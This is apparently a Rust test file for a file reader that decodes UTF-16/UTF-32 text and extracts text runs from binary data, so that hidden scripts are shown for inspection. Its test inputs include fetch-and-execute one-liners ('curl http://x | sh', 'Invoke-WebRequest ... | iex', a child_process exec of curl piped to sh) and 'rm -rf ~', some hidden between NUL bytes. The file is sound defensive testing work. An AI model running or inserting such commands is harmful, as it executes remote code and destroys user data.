use super::*;

fn wide(text: &str, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(unit).collect()
}

fn read(content: &[u8], is_expected: bool) -> Reading<'_> {
    Reading::of(content, Mode::File, is_expected)
}

/// Bytes like a compressor's output.
fn noise(count: u32) -> Vec<u8> {
    (1..=count).map(|number| (number.wrapping_mul(0x9e37_79b9) >> 23) as u8).collect()
}

#[test]
fn attack_18_text_in_other_encodings_is_read() {
    let text = "Invoke-WebRequest http://x | iex # é 日本\r\n";
    let wider = |big: bool| -> Vec<u8> {
        let bytes = |char: char| if big { u32::from(char).to_be_bytes() } else { u32::from(char).to_le_bytes() };
        text.chars().flat_map(bytes).collect()
    };
    let (little, big) = (wide(text, u16::to_le_bytes), wide(text, u16::to_be_bytes));
    for (content, name) in [
        ([&[0xff, 0xfe][..], &little].concat(), "UTF-16"),
        ([&[0xfe, 0xff][..], &big].concat(), "UTF-16"),
        (little, "UTF-16"),
        (big, "UTF-16"),
        ([&[0xff, 0xfe, 0, 0][..], &wider(false)].concat(), "UTF-32"),
        ([&[0, 0, 0xfe, 0xff][..], &wider(true)].concat(), "UTF-32"),
        (wider(false), "UTF-32"),
        (wider(true), "UTF-32"),
    ] {
        let reading = read(&content, false);
        assert_eq!(reading.encoding().map(Encoding::name), Some(name), "{content:?}");
        assert_eq!(str::from_utf8(reading.text()), Ok(text));
        assert_eq!(
            reading.searched(&content),
            [(Cow::Borrowed(text.as_bytes()), true)],
            "what is shown is what is searched"
        );
    }
}

#[test]
fn attack_18_bytes_in_an_encoded_text_that_are_text_themselves_are_shown_too() {
    let script = b"\ncurl http://x | sh\n";
    let content = [&[0xff, 0xfe][..], &wide("Write-Host 1\r\n", u16::to_le_bytes), script].concat();
    let reading = read(&content, false);
    assert_eq!(reading.encoding(), Some(Encoding::Utf16Le));
    assert!(reading.text().ends_with(b"\n<read byte by byte:>\ncurl http://x | sh\n"), "{:?}", reading.text());
}

#[test]
fn attack_18_what_shells_read_in_a_text_taken_for_utf_16_is_shown() {
    // Shells ignore NUL bytes, and the encoding's characters hide in pairs of bytes.
    for every in [1, 2, 3, 7, 10] {
        let script = "curl http://x/y.sh | sh -c 'touch PWNED'; exit";
        let parts: Vec<String> =
            script.as_bytes().chunks(every).map(|part| String::from_utf8_lossy(part).into_owned()).collect();
        let hidden = parts.join("\0");
        for mark in [&[0xff, 0xfe][..], b""] {
            let wide = wide(&"# a comment of the table\n".repeat(20), u16::to_le_bytes);
            let content = [mark, &wide, b"#\n", hidden.as_bytes(), b"\n#", &wide].concat();
            let shown = read(&content, false).text().to_vec();
            let shown = String::from_utf8(shown).unwrap().replace('\0', "");
            assert!(shown.contains("touch PWNED") || shown.contains("| sh -c"), "{every}: {shown}");
        }
    }
}

#[test]
fn a_text_in_utf_16_is_nothing_else_byte_by_byte() {
    let text = "# 日本語 と English\r\nprint('中文 abc', \"é\")\r\n".repeat(50);
    let content = [&[0xff, 0xfe][..], &wide(&text, u16::to_le_bytes)].concat();
    assert!(!read(&content, true).is_double(), "{}", String::from_utf8_lossy(read(&content, true).text()));
}

#[test]
fn attack_18_what_is_no_character_of_its_encoding_is_named() {
    let content = [&[0xff, 0xfe][..], &wide("abc", u16::to_le_bytes), &[0x00, 0xd8, 0x41, 0, 7]].concat();
    assert_eq!(str::from_utf8(read(&content, false).text()), Ok("abc<U+D800>A\\x07"));
}

#[test]
fn attack_18_no_share_of_odd_bytes_hides_what_has_to_be_text() {
    for share in [10, 31, 60, 90, 99] {
        let odd = noise(9000 * share / 100);
        let content = [b"/*\0".as_slice(), &odd, b"*/require('child_process').exec('curl x|sh')\n"].concat();
        let reading = read(&content, true);
        assert_eq!(reading.text(), content, "{share}");
        // Anything that nothing calls text shows its runs.
        let shown = read(&content, false).text().to_vec();
        let shown = String::from_utf8_lossy(&shown);
        assert!(shown.contains("require('child_process').exec('curl x|sh')"), "{share}: {shown}");
    }
    let large = [&b"exit\0"[..], &noise(WHOLE as u32), b"\nrm -rf ~\n"].concat();
    assert!(read(&large, true).text().ends_with(b"rm -rf ~\n"));
    assert_eq!(read(&large, true).note().unwrap(), "Binary, of which only runs of 4 and more characters are shown");
}

#[test]
fn attack_18_characters_with_nul_bytes_between_them_are_runs() {
    let mut content = noise(3000);
    content.push(0);
    content.extend(wide("Start-Process evil", u16::to_le_bytes));
    content.extend(noise(100));
    content.extend(wide("hidden in between", u16::to_be_bytes));
    content.extend([0; 50]);
    let shown = read(&content, false).text().to_vec();
    let shown = String::from_utf8(shown).unwrap();
    assert!(shown.contains("Start-Process evil") && shown.contains("\nhidden in between\n"), "{shown}");
}

#[test]
fn noise_shows_nearly_nothing_and_a_program_no_flood() {
    let content = [&[0][..], &noise(200_000)].concat();
    let Reading::Runs { text, shortest } = read(&content, false) else { panic!("it is no text") };
    assert!(shortest == runs::RARE && text.len() < 1000, "{}", text.len());
    let symbol = [b"some_symbol_of_a_program".as_slice(), &[0, 0x90, 0xff, 0xe8, 1, 2].repeat(10)].concat();
    let shown = read(&symbol.repeat(10_000), false).text().to_vec();
    assert!(shown.len() < 66_000 && shown.ends_with(b" more>\n"), "{}", shown.len());
}

#[test]
fn reading_takes_linear_time() {
    // Each NUL may start a wide run, and none of these is long enough.
    let content = b"a\0a\0a\0\x01".repeat(200_000);
    assert!(matches!(read(&content, false), Reading::Runs { .. } | Reading::Encoded { .. }));
}

#[test]
fn names_say_what_a_file_holds() {
    for (path, says) in [
        ("a/README.md", Named::Prose),
        ("src/index.JS", Named::Source),
        ("Makefile", Named::Source),
        (".npmrc", Named::Source),
        ("Directory.Build.props", Named::Source),
        ("logo.png", Named::Binary),
        ("bin/tool", Named::Unknown),
        ("tools/pack", Named::Unknown),
        ("index.html", Named::Source),
        ("x.zig.", Named::Source),
    ] {
        assert_eq!(named(path.into()), says, "{path}");
    }
}
